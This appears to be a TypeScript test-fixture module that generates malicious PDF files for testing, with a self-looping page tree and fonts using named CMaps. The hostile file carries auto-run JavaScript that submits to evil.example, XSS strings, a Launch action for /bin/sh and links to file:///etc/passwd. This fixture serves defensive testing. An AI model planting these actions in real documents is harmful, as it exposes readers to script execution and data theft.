import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { paragraphs } from './pdf-files.ts';

/** Files that mean harm, or are made as few are. */

/** How high the links of a hostile file stand, by what they try; points from the foot of its page. */
export const hostileLinks = {
  web: 60,
  javascript: 100,
  data: 140,
  file: 180,
  mail: 220,
  script: 260,
  launch: 300,
  otherFile: 340,
  attached: 380,
  print: 420,
  submit: 460,
  importing: 500,
} as const;

/**
 * A file that tries what it can: scripts when it is opened, when its page is and in a form; links to scripts, programs,
 * other files, attached files and named actions; and one to the web, whose address begins like another's.
 */
export async function makeHostilePdf(texts: readonly string[], web = 'https://evil.example/'): Promise<Uint8Array> {
  const file = await PDFDocument.create();
  const font = await file.embedFont(StandardFonts.Helvetica);
  const page = file.addPage([595, 842]);
  file.setTitle('<img src=x onerror=alert(1)>');
  for (const { text, x, y } of paragraphs(texts)) page.drawText(text, { x, y, size: 11, font });
  const script = "app.alert('here'); this.submitForm('https://evil.example/'); app.launchURL('https://evil.example/');";
  file.addJavaScript('opening', script);
  await file.attach(new TextEncoder().encode('<script>alert(1)</script>'), 'evil.html', { mimeType: 'text/html' });
  const { context } = file;
  const action = (entries: { [name: string]: string | boolean | object }) =>
    context.obj({ Type: 'Action', ...entries } as never);
  const tried = {
    web: action({ S: 'URI', URI: PDFString.of(web) }),
    javascript: action({ S: 'URI', URI: PDFString.of('javascript:alert(1)') }),
    data: action({ S: 'URI', URI: PDFString.of('data:text/html,<script>alert(1)</script>') }),
    file: action({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }),
    mail: action({ S: 'URI', URI: PDFString.of('mailto:evil@evil.example') }),
    script: action({ S: 'JavaScript', JS: PDFString.of(script) }),
    launch: action({ S: 'Launch', F: PDFString.of('/bin/sh'), NewWindow: true }),
    otherFile: action({ S: 'GoToR', F: PDFString.of('file:///etc/passwd.pdf'), D: [0, PDFName.of('Fit')] }),
    attached: action({ S: 'GoToE', T: { R: 'C', N: PDFString.of('evil.html') }, D: PDFString.of('x') }),
    print: action({ S: 'Named', N: 'Print' }),
    submit: action({ S: 'SubmitForm', F: PDFString.of('https://evil.example/form') }),
    importing: action({ S: 'ImportData', F: PDFString.of('https://evil.example/data') }),
  };
  const links = Object.entries(hostileLinks).map(([name, y]) => {
    const A = tried[name as keyof typeof tried];
    return context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, y, 400, y + 30], A }));
  });
  page.node.set(PDFName.of('Annots'), context.obj(links));
  page.node.set(PDFName.of('AA'), context.obj({ O: action({ S: 'JavaScript', JS: PDFString.of(script) }) }));
  file.catalog.set(PDFName.of('OpenAction'), action({ S: 'JavaScript', JS: PDFString.of(script) }));
  const field = file.getForm().createTextField('name');
  field.setText('Filled in');
  field.addToPage(page, { x: 60, y: 560, width: 200, height: 20 });
  return file.save();
}

/** A file whose tree of pages leads back to itself, so that it has no page. */
export async function makeEndlessPdf(): Promise<Uint8Array> {
  const file = await PDFDocument.create();
  file.addPage();
  const pages = file.catalog.Pages();
  const ref = file.catalog.get(PDFName.of('Pages'));
  if (ref) pages.set(PDFName.of('Kids'), file.context.obj([ref] as never));
  return file.save({ useObjectStreams: false });
}

/** Words in letters that the file does not bring, in an encoding that it only names (a predefined CMap). */
export async function makeNamedCMapPdf(texts: readonly { cmap: string; order: string; hex: string }[]) {
  const file = await PDFDocument.create();
  const page = file.addPage([595, 842]);
  const { context } = file;
  const fonts: { [name: string]: unknown } = {};
  const drawn: string[] = [];
  for (const [i, { cmap, order, hex }] of texts.entries()) {
    const descriptor = context.register(
      context.obj({
        Type: 'FontDescriptor',
        FontName: `Odd${i}`,
        Flags: 4,
        FontBBox: [0, -120, 1000, 880],
        ItalicAngle: 0,
        Ascent: 880,
        Descent: -120,
        CapHeight: 880,
        StemV: 80,
      }),
    );
    const within = context.register(
      context.obj({
        Type: 'Font',
        Subtype: 'CIDFontType0',
        BaseFont: `Odd${i}`,
        CIDSystemInfo: { Registry: PDFString.of('Adobe'), Ordering: PDFString.of(order), Supplement: 2 },
        FontDescriptor: descriptor,
      }),
    );
    fonts[`F${i}`] = context.register(
      context.obj({ Type: 'Font', Subtype: 'Type0', BaseFont: `Odd${i}`, Encoding: cmap, DescendantFonts: [within] }),
    );
    drawn.push(`BT /F${i} 20 Tf 60 ${700 - i * 60} Td ${PDFHexString.of(hex).toString()} Tj ET`);
  }
  page.node.set(PDFName.of('Resources'), context.obj({ Font: fonts } as never));
  page.node.set(PDFName.of('Contents'), context.register(context.stream(drawn.join('\n'))));
  return file.save();
}
